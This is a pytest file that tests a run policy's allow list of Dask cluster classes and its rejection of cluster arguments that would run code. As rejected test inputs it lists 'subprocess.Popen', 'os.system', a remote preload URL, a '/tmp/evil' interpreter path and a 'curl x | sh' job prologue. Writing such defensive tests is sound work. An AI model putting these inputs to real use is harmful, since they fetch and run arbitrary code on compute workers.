"""The run policy's cluster classes, and cluster arguments that would run code."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from cifar.errors import InvalidParameterError
from flows.clusters import allowed_dask_config
from flows.run_policy import POLICY_VARIABLE, RunPolicy, run_policy


def _config(cluster_class: str | None, policy: RunPolicy | None = None, **kwargs: Any) -> Any:
    return allowed_dask_config(None, cluster_class, kwargs, 60.0, policy or RunPolicy())


@pytest.mark.parametrize(
    "allowed",
    [
        "distributed.LocalCluster",
        "dask_jobqueue.SLURMCluster",
        "dask_jobqueue.slurm.SLURMCluster",
        "dask_kubernetes.operator.KubeCluster",
        "dask_cuda.LocalCUDACluster",
    ],
)
def test_clusters_the_default_allows_dask_and_its_cluster_managers(allowed: str) -> None:
    assert _config(allowed).cluster_class == allowed


@pytest.mark.parametrize(
    "refused", ["subprocess.Popen", "os.system", "dask_jobqueuex.Evil", "dask_cuda.Other"]
)
def test_clusters_anything_else_is_refused_naming_the_allowed_and_the_setting(
    refused: str,
) -> None:
    with pytest.raises(InvalidParameterError) as caught:
        _config(refused)
    assert str(caught.value) == (
        f"dask_cluster_class {refused!r} is not allowed here; allowed: distributed.LocalCluster, "
        "dask_jobqueue.*, dask_kubernetes.*, dask_cuda.LocalCUDACluster. An operator allows "
        "another class by adding it to dask_cluster_classes in a run policy file named by "
        "$CIFAR_RUN_POLICY on the worker."
    )


def test_clusters_the_operator_sets_the_list(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "policy.toml"
    file.write_text('dask_cluster_classes = ["site_clusters.*", "distributed.LocalCluster"]\n')
    monkeypatch.setenv(POLICY_VARIABLE, str(file))
    policy = run_policy()
    chosen = _config("site_clusters.GpuCluster", policy)
    assert chosen.cluster_class == "site_clusters.GpuCluster"
    with pytest.raises(InvalidParameterError, match=re.escape("allowed: site_clusters.*, distri")):
        _config("dask_jobqueue.SLURMCluster", policy)


@pytest.mark.parametrize(
    ("kwargs", "named"),
    [
        ({"preload": ["evil"]}, "preload"),
        ({"scheduler_options": {"preload": "http://x/evil.py"}}, "scheduler_options.preload"),
        ({"job_script_prologue": ["curl x | sh"]}, "job_script_prologue"),
        ({"python": "/tmp/evil"}, "python"),
        ({"worker_extra_args": ["--preload", "evil"]}, "worker_extra_args[0]"),
    ],
)
def test_clusters_arguments_that_run_code_are_refused(kwargs: dict[str, Any], named: str) -> None:
    for cluster_class in ("dask_jobqueue.SLURMCluster", None):  # None: the default LocalCluster
        with pytest.raises(InvalidParameterError, match=re.escape(f"may not set {named}:")):
            _config(cluster_class, **kwargs)


def test_clusters_ordinary_arguments_pass_unchanged() -> None:
    kwargs = {
        "cores": 8,
        "job_extra_directives": ["--gpus-per-task=1"],
        "worker_extra_args": ["--resources", "GPU=1"],
    }
    config = _config("dask_jobqueue.SLURMCluster", **kwargs)
    assert dict(config.cluster_kwargs) == kwargs
